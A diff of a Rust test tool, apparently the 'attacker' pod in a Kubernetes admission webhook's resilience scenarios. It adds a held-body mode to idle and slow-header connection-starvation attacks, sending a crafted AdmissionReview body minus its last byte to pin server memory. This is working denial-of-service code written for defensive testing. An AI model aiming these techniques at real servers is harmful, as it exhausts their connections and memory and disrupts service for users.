@@ -1,11 +1,17 @@
-//! The connection-starvation attacker of the `attack` scenario: a pod that tries to hold an
-//! initializer's connection slots. It keeps `ATTACK_IDLE` idle keep-alive connections (TLS, one
-//! `GET /healthz`, then silence) and `ATTACK_SLOW` slow-header connections (TLS, then a request
-//! head one byte a second) open to `ATTACK_TARGET`, reopening each one the server closes after
+//! The attacker of the `attack` scenarios: a pod that tries to hold an initializer's connection
+//! slots or its memory. It keeps `ATTACK_IDLE` idle keep-alive connections (TLS, one
+//! `GET /healthz`, then silence), `ATTACK_SLOW` slow-header connections (TLS, then a request
+//! head one byte a second) and `ATTACK_BODIES` held bodies (TLS, a review's head declaring
+//! `ATTACK_BODY_BYTES`, all of the body but its last byte at once, the last byte after
+//! `ATTACK_BODY_HOLD_MS`: as much of the server's memory as a body can pin, for as long as the
+//! body timeout allows; the body a valid review of a Secret with as many short-keyed data
+//! entries as fit, the costliest object to decode per byte) open to `ATTACK_TARGET`, reopening
+//! each one the server closes after
 //! `ATTACK_REOPEN_MS`, and prints what it holds every second (`held idle=… slow=… …`):
 //! `connected` counts every connection open at the moment in any phase (TCP connected, in the
 //! TLS handshake, waiting for an answer, idle or dribbling), `idle` and `slow` the ones past
-//! their handshake. Against a server that makes room by closing idle connections, most of what
+//! their handshake, `bodies` the bodies sent but for their last byte, and `answered_early` the
+//! bodies the server answered (refused) before they were complete. Against a server that makes room by closing idle connections, most of what
 //! the attacker has open at any moment is still in its handshake: `connected` is how hard it
 //! presses, `idle` and `slow` how much it keeps.
 //!
@@ -33,6 +39,8 @@ struct Tally {
     connected: AtomicUsize,
     idle: AtomicUsize,
     slow: AtomicUsize,
+    bodies: AtomicUsize,
+    answered_early: AtomicUsize,
     opened: AtomicUsize,
     closed_by_server: AtomicUsize,
     failed: AtomicUsize,
@@ -44,6 +52,30 @@ struct Settings {
     connector: TlsConnector,
     sources: Vec<IpAddr>,
     reopen: Duration,
+    /// What each held body sends.
+    body: Vec<u8>,
+    body_hold: Duration,
+}
+
+/// A valid review of a Secret `bytes` long (or as short as one can be), its `data` short
+/// keys with empty values: what costs a server the most memory per byte once it decodes it.
+fn costly_review(bytes: usize) -> Vec<u8> {
+    let head = br#"{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"attack","kind":{"group":"","version":"v1","kind":"Secret"},"resource":{"group":"","version":"v1","resource":"secrets"},"namespace":"default","operation":"CREATE","userInfo":{},"object":{"apiVersion":"v1","kind":"Secret","metadata":{"name":"attack","namespace":"default"},"data":{"#;
+    let tail = b"}}}}";
+    let mut body = head.to_vec();
+    let mut n = 0u64;
+    loop {
+        let entry = format!(r#"{}"{n:x}":"""#, if n == 0 { "" } else { "," });
+        if body.len() + entry.len() + tail.len() > bytes {
+            break;
+        }
+        body.extend_from_slice(entry.as_bytes());
+        n += 1;
+    }
+    // JSON allows whitespace between tokens: pad to the exact size.
+    body.resize(bytes.saturating_sub(tail.len()).max(body.len()), b' ');
+    body.extend_from_slice(tail);
+    body
 }
 
 fn var(name: &str) -> anyhow::Result<String> {
@@ -81,6 +113,23 @@ async fn tcp(settings: &Settings, index: usize) -> std::io::Result<TcpStream> {
 }
 
 type Tls = tokio_rustls::client::TlsStream<TcpStream>;
+
+/// One held body counted in [`Tally::bodies`] until it is dropped (sent whole, or answered
+/// before that).
+struct Holding<'a>(&'a AtomicUsize);
+
+impl<'a> Holding<'a> {
+    fn new(count: &'a AtomicUsize) -> Self {
+        count.fetch_add(1, Ordering::Relaxed);
+        Self(count)
+    }
+}
+
+impl Drop for Holding<'_> {
+    fn drop(&mut self) {
+        self.0.fetch_sub(1, Ordering::Relaxed);
+    }
+}
 
 /// One connection counted in [`Tally::connected`] from its TCP connect until it is dropped.
 struct Connected<'a>(&'a Tally);
@@ -167,13 +216,57 @@ async fn hold_slow(settings: &Settings, tally: &Tally, index: usize) -> std::io:
     ended
 }
 
+/// One held body: a review's head and all of its body but the last byte, the last byte once
+/// the hold is over, then the answer. An answer that comes first (a refusal) ends it early.
+async fn hold_body(settings: &Settings, tally: &Tally, index: usize) -> std::io::Result<()> {
+    let (tls, _connected) = open(settings, tally, index).await?;
+    tally.opened.fetch_add(1, Ordering::Relaxed);
+    let (mut reader, mut writer) = tokio::io::split(tls);
+    let send = async {
+        let head = format!(
+            "POST /initialize HTTP/1.1\r\nHost: attacker\r\nContent-Type: application/json\r\n\
+             Content-Length: {}\r\n\r\n",
+            settings.body.len()
+        );
+        writer.write_all(head.as_bytes()).await?;
+        let (all_but_last, last) = settings.body.split_at(settings.body.len() - 1);
+        writer.write_all(all_but_last).await?;
+        writer.flush().await?;
+        let holding = Holding::new(&tally.bodies);
+        tokio::time::sleep(settings.body_hold).await;
+        drop(holding);
+        writer.write_all(last).await?;
+        writer.flush().await?;
+        Ok::<(), std::io::Error>(())
+    };
+    let mut buf = [0u8; 1024];
+    tokio::select! {
+        sent = send => {
+            sent?;
+            reader.read(&mut buf).await.map(drop)
+        }
+        read = reader.read(&mut buf) => {
+            tally.answered_early.fetch_add(1, Ordering::Relaxed);
+            read.map(drop)
+        }
+    }
+}
+
 #[tokio::main]
 async fn main() -> anyhow::Result<()> {
     let target: SocketAddr = var("ATTACK_TARGET")?.parse()?;
     let server_name = ServerName::try_from(var("ATTACK_SERVER_NAME")?)?;
     let ca = std::fs::read(var("ATTACK_CA")?).context("failed to read ATTACK_CA")?;
-    let idle: usize = var("ATTACK_IDLE")?.parse()?;
-    let slow: usize = var("ATTACK_SLOW")?.parse()?;
+    // Each kind of connection is optional: none unless asked for.
+    let count = |name: &str| -> anyhow::Result<usize> {
+        std::env::var(name)
+            .ok()
+            .map_or(Ok(0), |v| v.parse())
+            .with_context(|| format!("failed to parse {name}"))
+    };
+    let idle = count("ATTACK_IDLE")?;
+    let slow = count("ATTACK_SLOW")?;
+    let bodies = count("ATTACK_BODIES")?;
     let reopen = Duration::from_millis(var("ATTACK_REOPEN_MS")?.parse()?);
     let sources = std::env::var("ATTACK_SOURCES")
         .unwrap_or_default()
@@ -187,16 +280,20 @@ async fn main() -> anyhow::Result<()> {
         connector: connector(&ca)?,
         sources,
         reopen,
+        body: costly_review(count("ATTACK_BODY_BYTES")?),
+        body_hold: Duration::from_millis(count("ATTACK_BODY_HOLD_MS")? as u64),
     });
     let tally = Arc::new(Tally::default());
-    for index in 0..idle + slow {
+    for index in 0..idle + slow + bodies {
         let (settings, tally) = (Arc::clone(&settings), Arc::clone(&tally));
         tokio::spawn(async move {
             loop {
                 let held = if index < idle {
                     hold_idle(&settings, &tally, index).await
-                } else {
+                } else if index < idle + slow {
                     hold_slow(&settings, &tally, index).await
+                } else {
+                    hold_body(&settings, &tally, index).await
                 };
                 if held.is_err() {
                     tally.failed.fetch_add(1, Ordering::Relaxed);
@@ -209,12 +306,15 @@ async fn main() -> anyhow::Result<()> {
     loop {
         ticks.tick().await;
         println!(
-            "held idle={} slow={} connected={} opened={} closed_by_server={} failed={}",
+            "held idle={} slow={} bodies={} connected={} opened={} closed_by_server={} \
+             answered_early={} failed={}",
             tally.idle.load(Ordering::Relaxed),
             tally.slow.load(Ordering::Relaxed),
+            tally.bodies.load(Ordering::Relaxed),
             tally.connected.load(Ordering::Relaxed),
             tally.opened.load(Ordering::Relaxed),
             tally.closed_by_server.load(Ordering::Relaxed),
+            tally.answered_early.load(Ordering::Relaxed),
             tally.failed.load(Ordering::Relaxed),
         );
     }
